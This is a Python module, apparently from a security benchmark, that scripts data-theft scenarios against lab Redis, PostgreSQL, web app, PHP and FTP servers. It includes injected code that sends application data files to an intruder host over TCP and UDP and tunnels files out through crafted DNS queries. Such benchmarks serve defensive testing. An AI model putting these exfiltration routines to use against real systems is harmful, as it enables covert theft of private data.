# SPDX-License-Identifier: GPL-2.0
"""Theft, fast and slow, by the server's own protocol and by ways of the intruder's own."""

import pathlib
import random
import re
import socket
import time

from bench.attacks.attack import LOSS, Attack, ByApp, ByPhp
from bench.clients import files, resp, sql, web
from bench.net import CLIENTS, INTRUDER
from bench.servers.app import RECORDS
from bench.servers.app import ROOT as APP
from bench.servers.nginx import ROOT as WEB
from bench.servers.postgresql import ACCOUNTS as ROWS
from bench.servers.redis import ACCOUNTS as KEYS
from bench.servers.vsftpd import ARCHIVE


class Theft(Attack):
    """So many things, of which the intruder gets some."""

    total = 0
    is_quiet = True

    def __init__(self, world):
        super().__init__(world)
        self.stolen = set()

    def damaged(self):
        return len(self.stolen) >= LOSS * self.total


class RedisFast(Theft):
    """All keys, as fast as redis gives them."""

    name = "theft-redis-fast"
    servers = ("redis",)
    total = KEYS

    def run(self):
        connection = resp.Redis(INTRUDER, 10)
        keys = connection.ask("KEYS", "account:*")
        for key in keys:
            if connection.ask("GET", key):
                self.stolen.add(key)
        connection.close()


class RedisSlow(Theft):
    """Twenty keys a second."""

    name = "theft-redis-slow"
    servers = ("redis",)
    total = KEYS
    patience = 45

    def run(self):
        connection = resp.Redis(INTRUDER, 10)
        end = time.monotonic() + 25
        for n in range(KEYS):
            if connection.ask("GET", f"account:{n}"):
                self.stolen.add(n)
            time.sleep(0.05)
            if time.monotonic() > end:
                break
        connection.close()


class RedisRamp(Theft):
    """One who trains: two keys a second, and a quarter more each second."""

    name = "theft-redis-ramp"
    servers = ("redis",)
    total = KEYS
    patience = 60

    def run(self):
        connection = resp.Redis(INTRUDER, 10)
        rate, left = 2.0, list(range(KEYS))
        while left:
            began = time.monotonic()
            for _ in range(min(len(left), int(rate))):
                n = left.pop()
                if connection.ask("GET", f"account:{n}"):
                    self.stolen.add(n)
            rate *= 1.25
            time.sleep(max(0.0, began + 1 - time.monotonic()))
        connection.close()


class PostgresFast(Theft):
    """The whole table at once."""

    name = "theft-postgres-fast"
    servers = ("postgresql",)
    total = ROWS

    def run(self):
        lines = sql.once("COPY accounts TO STDOUT", INTRUDER)
        self.stolen.update(re.findall(r"^(\d+)\t", "".join(lines), re.M))


class PostgresSlow(Theft):
    """Row by row, as an application might ask, from a connection of its own: the accounts of one branch."""

    name = "theft-postgres-slow"
    servers = ("postgresql",)
    total = 800
    patience = 60

    def run(self):
        connection = sql.Postgres(INTRUDER)
        end = time.monotonic() + 40
        for n in range(1, self.total + 1):
            if connection.ask(f"SELECT card FROM accounts WHERE id = {n}"):
                self.stolen.add(n)
            time.sleep(0.02)
            if time.monotonic() > end:
                break
        connection.close()


class AppScrape(Theft):
    """One note after the other, by the path that everybody uses."""

    name = "theft-app-scrape"
    servers = ("app",)
    total = RECORDS
    patience = 45

    def run(self):
        for n in range(RECORDS):
            code, body = web.get(f"/notes/{n}", 8000, INTRUDER, 10)
            if code == 200 and b"record" in body:
                self.stolen.add(n)


class AppUpload(Theft, ByApp):
    """The daemon reads what it reads all the time, and sends it to somebody."""

    name = "theft-app-tcp"
    total = RECORDS

    def setup(self):
        self.home = self.listen(443)

    def run(self):
        self.python(f"""
import glob, socket
sock = socket.create_connection(({INTRUDER!r}, 443), 10)
for name in glob.glob("{APP}/data/*.json"):
    with open(name, "rb") as file:
        sock.sendall(file.read() + b"\\n")
sock.close()
""")
        self.stolen = set(re.findall(rb'"number": (\d{1,3}),', self.home.got))


class AppDatagrams(Theft, ByApp):
    """The same by datagrams."""

    name = "theft-app-udp"
    total = RECORDS

    def setup(self):
        self.home = self.listen(5000, kind=socket.SOCK_DGRAM)

    def run(self):
        self.python(f"""
import glob, socket, time
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for name in glob.glob("{APP}/data/*.json"):
    with open(name, "rb") as file:
        sock.sendto(file.read()[:1400], ({INTRUDER!r}, 5000))
    time.sleep(0.005)
""")
        time.sleep(1)
        self.stolen = set(re.findall(rb'"number": (\d{1,3}),', self.home.got))


class PhpNames(Theft, ByPhp):
    """Pictures go out in the names that a name server of the intruder's is asked for."""

    name = "theft-php-dns"
    total = 30
    servers = ("php", "nginx")

    def setup(self):
        super().setup()
        dice = random.Random(1)
        for n in range(self.total):
            web.upload("/upload.php", f"holiday-{n}.png", dice.randbytes(600), source=CLIENTS[0])
        self.home = self.listen(53, kind=socket.SOCK_DGRAM)

    def run(self):
        self.php(f"""
$s = fsockopen('udp://{INTRUDER}', 53);
foreach (glob('{WEB}/uploads/holiday-*.png') as $f) {{
	preg_match('/(\\d+).png/', $f, $n);
	foreach (str_split(bin2hex(file_get_contents($f)), 60) as $at => $part) {{
		$name = sprintf('%d-%d', $n[1], $at);
		$labels = chr(strlen($name)) . $name . chr(strlen($part)) . $part . "\\x04evil\\x00";
		fwrite($s, "\\x00\\x01\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00" . $labels . "\\x00\\x01\\x00\\x01");
		usleep(2000);
	}}
}}
""")
        time.sleep(1)
        # The last part of a picture has come.
        self.stolen = set(re.findall(rb"(\d+)-19[^0-9]", self.home.got))

    def cleanup(self):
        super().cleanup()
        for n in range(self.total):
            pathlib.Path(f"{WEB}/uploads/holiday-{n}.png").unlink(missing_ok=True)


class FtpAll(Theft):
    """Everything in somebody's archive, with the password."""

    name = "theft-ftp-archive"
    servers = ("vsftpd",)
    total = ARCHIVE
    patience = 60

    def run(self):
        with files.session("alice", self.world.password("alice"), INTRUDER, 15) as ftp:
            for name in ftp.nlst("archive"):
                if files.download(ftp, name):
                    self.stolen.add(name)


ATTACKS = [
    RedisFast, RedisSlow, RedisRamp, PostgresFast, PostgresSlow, AppScrape, AppUpload, AppDatagrams, PhpNames, FtpAll,
]
